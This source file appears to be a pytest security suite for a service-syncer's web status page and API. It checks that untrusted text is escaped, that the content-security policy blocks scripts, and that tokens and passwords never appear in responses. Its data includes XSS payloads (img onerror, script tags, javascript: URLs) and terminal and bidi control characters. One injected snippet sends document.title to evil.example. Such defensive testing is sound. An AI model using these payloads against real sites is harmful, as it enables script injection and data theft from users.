"""Text of others and secrets, on the status page and in all that its API answers."""

import json
import urllib.error
import urllib.request

import pytest
from fakes import FakeSink, held, offer, workload

import syncer
from servers import secrets
from servers.process import free_port
from servers.syncer_fixtures import start_syncer
from servers.webpage import TOKEN, check
from servers.webpage_fixtures import sees
from syncer.testing import wait_until

__all__ = ["start_syncer"]

PASSWORD = secrets.secret("Xq-pass-of-the-tests-2")
PATHS = (
    *("/metrics", "/readyz", "/healthz"),
    *(
        f"/api/v1/{name}"
        for name in (
            *("status", "sources", "sinks", "instances", "registrations", "skips", "drift"),
            *("events", "guard", "explain?name=web", "openapi.json"),
        )
    ),
)
#: What means something to a browser, a terminal or an eye.
MARKUP = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
HOSTILE = (
    f"{MARKUP}\x1b[31m\x07\u202eexe.gnp\u2066\u200b\u2028\x00javascript:document.title='owned'"
)


@pytest.mark.server
class TestText:
    """Text of others, in a real browser."""

    def full(self, site):
        """A site with such text in every place that it can come to."""
        sink, down = FakeSink(), FakeSink()
        sink.store.put(held("h:theirs:80", service=MARKUP, owner="else", tags=(HOSTILE,)), None)
        sink.fail["register", "bad"] = syncer.PermanentError(HOSTILE)
        down.fail["registrations"] = syncer.TemporaryError(HOSTILE)
        rich = offer(
            service=MARKUP, tags=(HOSTILE,), meta={HOSTILE: HOSTILE}, id="rich", because=HOSTILE
        )
        made = site(
            workload("rich", offers=(rich,), image=HOSTILE),
            workload("bad", offers=(offer(service="bad", id="bad"),)),
            workload("theirs"),
            sinks={"memory": sink, "down": down},
            begin=False,
        )
        made.engine.start()
        wait_until(lambda: made.get("skips?kind=conflict")["total"] == 1, 30)
        return made

    def test_it_does_nothing(self, site, browse):
        """In rows, cards, errors, reasons, lines, stories; it is shown as it is."""
        page = browse(self.full(site).url)
        sees(page, "down: <img src=x")
        sees(page, "conflict")
        page.get_by_text("connected", exact=True).wait_for()
        page.get_by_role("button", name=f"Explain {MARKUP}").first.click()
        dialog = page.get_by_role("dialog")
        dialog.get_by_text("exe.gnp").first.wait_for()
        assert page.title() == "h - syncer"
        assert page.locator("main img, main script, main a, dialog img, dialog script").count() == 0

    def test_what_cannot_be_seen_is_shown(self, site, browse):
        """Escapes of terminals, turned writing and characters without width, by their numbers."""
        page = browse(self.full(site).url)
        sees(page, "unreachable")
        sees(page, "exe.gnp")
        shown = page.locator("body").inner_text()
        assert not [one for one in "\x1b\x07\u202e\u2066\u200b\u2028\x00" if one in shown]
        assert "\\u{202e}" in shown

    def test_half_a_character(self, site, browse):
        """A lone surrogate, which is no text, spoils no answer."""
        odd = "a\ud800b"
        one = offer(service="web", tags=(odd,), id="web", meta={odd: odd}, because=odd)
        made = site(workload("web", offers=(one,), image=odd))
        wait_until(lambda: made.get("instances")["total"] == 1, 30)
        for path in ("instances", "registrations", "explain?name=web", "events"):
            check(f"/api/v1/{path.partition('?')[0]}", made.get(path))
        page = browse(made.url)
        page.get_by_role("button", name="Explain web ").click()
        page.get_by_role("dialog").get_by_text("\\u{d800}").first.wait_for()


@pytest.mark.server
def test_the_policy_holds(site, browse):
    """What a script of others would do is forbidden: to load, to send away, to run text."""
    made = site(workload("web"))
    page = browse(made.url)
    sees(page, "10.0.0.1:80")
    assert browse.errors == []
    page.evaluate("""() => {
        const image = document.createElement("img");
        image.src = "http://evil.example/" + document.title;
        const script = document.createElement("script");
        script.textContent = "document.title = 'owned'";
        const button = document.createElement("button");
        button.setAttribute("onclick", "document.title = 'owned'");
        document.body.append(image, script, button);
        button.click();
        fetch("http://evil.example/").catch(() => {});
    }""")
    wait_until(lambda: len(browse.errors) >= 4, 30)
    assert page.title() == "h - syncer"
    browse.errors.clear()


class TestSecrets:
    """Tokens and passwords are in no answer."""

    @pytest.mark.parametrize("kind", ["consul", "consulkv", "etcd", "eureka"])
    def test_of_registries(self, start_syncer, tmp_path, kind):
        """One that is not there, at an address with a password: a library's error may have it."""
        forms = {
            "consul": f"consul=http://me:{PASSWORD}@127.0.0.1:1",
            "consulkv": f"consulkv://me:{PASSWORD}@127.0.0.1:1/services",
            "etcd": f"etcd://me:{PASSWORD}@127.0.0.1:1/services",
            "eureka": f"eureka=http://me:{PASSWORD}@127.0.0.1:1/eureka/",
        }
        services = tmp_path / "services.toml"
        services.write_text('[[services]]\nname = "web"\naddress = "192.0.2.1"\nport = 80\n')
        address = f"127.0.0.1:{free_port()}"
        start_syncer(
            *("--source", f"file={services}", "--sink", forms[kind], "--web", address),
            *("--set", "interval=1s"),
            env={"CONSUL_HTTP_TOKEN": PASSWORD, "SYNCER_WEB_TOKEN": TOKEN},
        )
        wait_until(lambda: '"failing"' in told(address, "/api/v1/sinks"), 60)
        for path in PATHS:
            text = told(address, path)
            assert PASSWORD not in text
            assert TOKEN not in text

    def test_of_the_page(self, site):
        """The right token, a wrong one and what comes with them are not said again."""
        made = site(workload("web"), token=TOKEN, token_for="all")
        for path in PATHS:
            for token in (TOKEN, "wrong-t0ken"):
                _, headers, text = made.ask(path, token=token)
                assert token not in text + str(headers)

    def test_of_traces(self, site):
        """What nobody expected is told by its text; its trace is for the log alone."""
        sink = FakeSink()
        sink.fail["registrations"] = RuntimeError("unexpected")
        made = site(workload("web"), sinks={"memory": sink}, begin=False)
        made.engine.start()
        wait_until(lambda: any("unexpected" in str(one) for one in made.get("events")), 30)
        assert not [one for one in made.get("events") if "Traceback" in json.dumps(one)]


def told(address, path):
    """What a page answers; "" while it does not."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(f"http://{address}{path}", timeout=30) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        with error:
            return error.read().decode()
    except OSError:
        return ""
